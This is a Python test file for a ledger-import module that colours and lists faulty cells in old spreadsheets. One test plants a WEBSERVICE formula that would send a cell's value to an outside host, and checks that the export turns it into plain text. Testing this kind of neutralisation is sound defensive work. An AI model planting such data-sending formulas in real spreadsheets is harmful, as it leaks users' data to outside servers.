"""A copy of an old ledger with its faults shown."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from tests.extraction.old_ledger_files import HEADS, ROWS, write
from xuncha.extraction.ledger import old


@pytest.mark.parametrize("ending", ["xlsx", "csv"])
def test_faulty_cells_are_coloured_and_listed(tmp_path: Path, ending: str) -> None:
    bad = (3, "县水利局", "坝体巡查记录系事后补写", "=1+1", "随后再说吧", "也许")
    path = tmp_path / f"a.{ending}"
    if ending == "xlsx":
        write(path, ("台账", [HEADS, *ROWS, bad]))
    else:
        path.write_text("\n".join(",".join(map(str, row)) for row in (HEADS, *ROWS, bad)), "utf-8")
    rows = list(old.rows(path, old.plan_of(old.survey(path))))
    faults = [fault for row in rows for fault in row.faults]
    out = tmp_path / "marked.xlsx"
    old.mark(path, faults, out, english=True)
    book = openpyxl.load_workbook(out)
    front, sheet = book.worksheets[0], book.worksheets[1]
    assert front.title == "导入核对" and front.max_row == 1 + len(faults)
    assert sheet["E4"].fill.fgColor.rgb == "FFFDE0DC"
    assert "expected a date" in sheet["E4"].comment.text
    assert sheet["E2"].fill.fill_type is None
    # The corrected copy comes back: its list of faults is no ledger, the rest is read as before.
    again = old.plan_of(old.survey(out))
    assert [sheet.is_taken for sheet in again.sheets] == [False, True]
    assert len(list(old.rows(out, again))) == len(rows)


def test_a_formula_that_would_fetch_becomes_words(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (HEADS, *ROWS):
        sheet.append(row)
    sheet["D2"] = '=WEBSERVICE("http://example.org/"&B2)'
    book.save(tmp_path / "a.xlsx")
    old.mark(tmp_path / "a.xlsx", [], tmp_path / "b.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "b.xlsx").worksheets[1]["D2"]
    assert cell.data_type == "s"
